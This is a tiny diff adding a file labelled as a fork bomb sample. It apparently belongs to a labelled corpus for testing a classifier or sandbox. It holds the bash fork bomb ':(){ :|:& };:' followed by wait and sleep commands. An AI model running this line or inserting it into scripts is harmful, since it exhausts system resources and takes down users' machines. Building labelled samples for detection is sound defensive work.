@@ -1,0 +1,4 @@
+# class: fork bomb; possible: low medium
+:(){ :|:& };:
+wait
+sleep 20
